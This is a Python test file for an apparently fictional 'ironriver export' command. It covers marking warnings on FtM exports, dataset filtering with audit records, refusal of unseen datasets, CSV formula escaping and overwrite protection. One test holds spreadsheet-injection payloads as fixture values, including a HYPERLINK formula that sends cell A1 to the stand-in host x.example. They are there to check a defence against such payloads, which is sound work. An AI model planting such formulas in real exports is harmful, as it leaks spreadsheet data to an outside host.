"""`ironriver export`: what an FtM entity export cannot carry (markings) is said, and an
export can be limited to some datasets (real SQLite store, click's runner)."""

from __future__ import annotations

import csv
import json
from pathlib import Path

from click.testing import CliRunner

from ironriver.cli import cli
from ironriver.policy import Marking
from ironriver.store import DatasetInfo, open_store
from samples import MX, load, table

# FGR's own AMBER+STRICT collection, and SEDENA's GREEN ones: to the whole community (no
# handling rule to pass on) and to Mexico only (one)
STRICT = DatasetInfo("mx_fgr_reservado", "FGR", "MX", Marking.AMBER_STRICT, frozenset({"FGR"}))
OPEN = DatasetInfo("mx_sedena_publico", "SEDENA", "MX", Marking.GREEN)
GREEN_MX = DatasetInfo("mx_sedena_mx", "SEDENA", "MX", Marking.GREEN, frozenset({"MX"}))


def _store(tmp_path: Path) -> str:
    db = tmp_path / "x.db"
    store = open_store(f"sqlite:///{db}")
    load(store)  # ATF's us_atf_traces (AMBER, US: hidden from FGR) and FGR's MX (AMBER)
    extra = {
        STRICT: [("p2", "Individual", "birthDate", "1980-01-02"), ("x9", "Person", "name", "Ana")],
        OPEN: [("v1", "Vehicle", "registrationNumber", "ABC123")],
        GREEN_MX: [("v2", "Vehicle", "registrationNumber", "XYZ789")],
    }
    with store.writer() as w:
        for info, rows in extra.items():
            w.ensure_dataset(info)
            w.add_statements(table(info.name, rows), info.name, info.label)
    store.close()
    return str(db)


def run(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(cli, list(args), catch_exceptions=False)
    return result.exit_code, result.stdout, result.stderr


def test_an_entity_export_says_which_markings_it_does_not_carry(tmp_path: Path) -> None:
    """FtM entity JSON has no place for a marking: the export counts, by marking and
    releasability, the entities holding statements whose marking limits their sharing
    (AMBER+STRICT, AMBER, GREEN to Mexico only; not GREEN to everyone), on standard error
    in both languages and in --json's summary; a statement export, which keeps them, says
    nothing of it."""
    db = _store(tmp_path)
    args = ("export", "--db", db, "--as", "mx-fgr-analista", "--reason", "share")
    code, out, err = run("--lang", "en", *args, "-o", str(tmp_path / "mx.jsonl"))
    assert code == 0, err
    exported = [json.loads(line) for line in (tmp_path / "mx.jsonl").read_text().splitlines()]
    assert sorted(e["id"] for e in exported) == ["g1", "p2", "r1", "v1", "v2", "x9"]
    assert not any("marking" in json.dumps(e) for e in exported)  # (hence the note)
    assert (
        "Note: FtM entity JSON carries no markings, and 5 of the 6 entities exported hold "
        "statements whose marking limits their sharing:\n"
        "  AMBER+STRICT, releasable to FGR: 2 entities\n"
        "  AMBER, releasable to MX, US: 3 entities\n"
        "  GREEN, releasable to MX: 1 entity\n"
        "Share the file only as those markings allow, or export with --format statements"
    ) in err
    _code, _out, err = run(*args, "-o", str(tmp_path / "es.jsonl"))  # a Mexican principal
    assert "el JSON de entidades FtM no lleva marcas, y 5 de las 6 entidades exportadas" in err
    assert "  AMBER+STRICT, divulgable a FGR: 2 entidades" in err
    code, out, err = run(*args, "-o", str(tmp_path / "j.jsonl"), "--json")
    summary = json.loads(out)
    assert summary["entities_marked"] == 5
    assert summary["markings_not_carried"] == [
        {"marking": "AMBER+STRICT", "releasable_to": ["FGR"], "entities_marked": 2},
        {"marking": "AMBER", "releasable_to": ["MX", "US"], "entities_marked": 3},
        {"marking": "GREEN", "releasable_to": ["MX"], "entities_marked": 1},
    ]
    code, out, err = run(*args, "--format", "statements", "-o", str(tmp_path / "s.csv"))
    assert code == 0 and "markings" not in err and "marcas" not in err
    # an export of what carries no handling rule says nothing of markings
    code, out, err = run(
        "--lang", "en", *args, "--dataset", OPEN.name, "-o", str(tmp_path / "open.jsonl"), "--json"
    )
    assert json.loads(out) == {"exported": 1, "format": "ftm", "path": str(tmp_path / "open.jsonl")}
    code, out, err = run("--lang", "en", *args, "--dataset", OPEN.name, "-o", str(tmp_path / "o"))
    assert code == 0 and "markings" not in err


def test_an_export_can_hold_some_datasets_only(tmp_path: Path) -> None:
    """--dataset (repeatable) exports the visible statements of those datasets only, and the
    audit event records the filter; a dataset the principal may not see is refused exactly
    as one that does not exist, before anything is written."""
    db = _store(tmp_path)
    args = ("--lang", "en", "export", "--db", db, "--as", "mx-fgr-analista", "--reason", "own")
    target = tmp_path / "own.jsonl"
    code, out, err = run(*args, "--dataset", STRICT.name, "-o", str(target))
    assert code == 0, err
    exported = {(e := json.loads(line))["id"]: e for line in target.read_text().splitlines()}
    assert sorted(exported) == ["p2", "x9"]
    # p2's name is MX's: not in an export of FGR's reserved dataset
    assert exported["p2"]["properties"] == {"birthDate": ["1980-01-02"]}
    assert "AMBER+STRICT, releasable to FGR: 2 entities" in err and "AMBER," not in err
    csv_out = tmp_path / "own.csv"
    two = ("--dataset", STRICT.name, "--dataset", MX.name)
    code, out, err = run(*args, *two, "--format", "statements", "-o", str(csv_out))
    with csv_out.open(encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert {r["dataset"] for r in rows} == {STRICT.name, MX.name} and len(rows) == 7
    code, out, err = run(
        "audit", "log", "--db", db, "--as", "mx-auditor", "--action", "export", "--json"
    )
    assert [e["detail"].get("datasets") for e in json.loads(out)] == [
        [STRICT.name],
        sorted([STRICT.name, MX.name]),
    ]
    # ATF's dataset exists but FGR may not see it: the same refusal as for no dataset
    refusals = []
    for name in ("us_atf_traces", "no_such_dataset"):
        bad = tmp_path / f"{name}.jsonl"
        code, out, err = run(*args, "--dataset", MX.name, "--dataset", name, "-o", str(bad))
        assert code == 4 and not bad.exists()
        refusals.append(err.replace(name, "NAME"))
    assert refusals[0] == refusals[1]
    assert "You can see no dataset named 'NAME'" in refusals[0]
    assert "ironriver datasets" in refusals[0]
    code, out, err = run(
        "audit", "log", "--db", db, "--as", "mx-auditor", "--action", "export", "--json"
    )
    assert len(json.loads(out)) == 2  # the refusals exported nothing


def test_a_statements_csv_quotes_text_a_spreadsheet_would_run(tmp_path: Path) -> None:
    """`export --format statements` writes CSV that people open in spreadsheets: a value
    starting with =, +, - or @ gets a single quote before it (review R5 F4), a plain number
    ("-99.13") stays as it is, and the Parquet export keeps every value as stored."""
    db = tmp_path / "x.db"
    store = open_store(f"sqlite:///{db}")
    rows = [
        ("x1", "Person", "name", '=HYPERLINK("http://x.example/?"&A1,"open")'),
        ("x1", "Person", "alias", "@SUM(A1:A9)"),
        ("x1", "Person", "weight", "-99.13"),
        ("x1", "Person", "phone", "+525512345678"),
        ("x1", "Person", "notes", "+52 55 1234 5678"),
    ]
    with store.writer() as w:
        w.ensure_dataset(OPEN)
        w.add_statements(table(OPEN.name, rows), OPEN.name, OPEN.label)
    store.close()
    args = ("export", "--db", str(db), "--as", "mx-fgr-analista", "--reason", "r")
    code, _out, err = run(*args, "--format", "statements", "-o", str(tmp_path / "s.csv"))
    assert code == 0, err
    with (tmp_path / "s.csv").open(encoding="utf-8") as f:
        values = {r["prop"]: r["value"] for r in csv.DictReader(f)}
    assert values == {
        "name": '\'=HYPERLINK("http://x.example/?"&A1,"open")',
        "alias": "'@SUM(A1:A9)",
        "weight": "-99.13",
        "phone": "+525512345678",
        "notes": "'+52 55 1234 5678",
    }
    code, _out, err = run(*args, "--format", "parquet", "-o", str(tmp_path / "s.parquet"))
    assert code == 0, err
    import pyarrow.parquet as pq

    stored = pq.read_table(tmp_path / "s.parquet").select(["prop", "value"]).to_pylist()
    assert {r["prop"]: r["value"] for r in stored} == {p: v for _e, _s, p, v in rows}


def test_an_export_replaces_a_file_only_with_overwrite(tmp_path: Path) -> None:
    """`-o` naming a file that exists is refused, in the reader's language, and the file is
    left as it was; with --overwrite the export replaces it whole (no staged file left)."""
    db = _store(tmp_path)
    target = tmp_path / "casos.csv"
    target.write_text("un trabajo de ayer\n", encoding="utf-8")
    args = ("export", "--db", db, "--as", "mx-fgr-analista", "--reason", "r", "-o", str(target))
    for fmt in ("ftm", "statements", "parquet"):
        code, _, err = run(*args, "--format", fmt)
        assert code == 2, (fmt, err)
        assert (
            f"{target} ya existe: una exportación no reemplaza un archivo sin que se le pida."
            in err
        )
        assert "Elija otro -o, o pase --overwrite para reemplazarlo." in err
        assert target.read_text(encoding="utf-8") == "un trabajo de ayer\n"
    code, _, err = run(*args, "--format", "statements", "--overwrite")
    assert code == 0, err
    with target.open(encoding="utf-8", newline="") as fh:
        assert next(csv.reader(fh))[:3] == ["canonical_id", "entity_id", "prop"]
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".casos")) == []
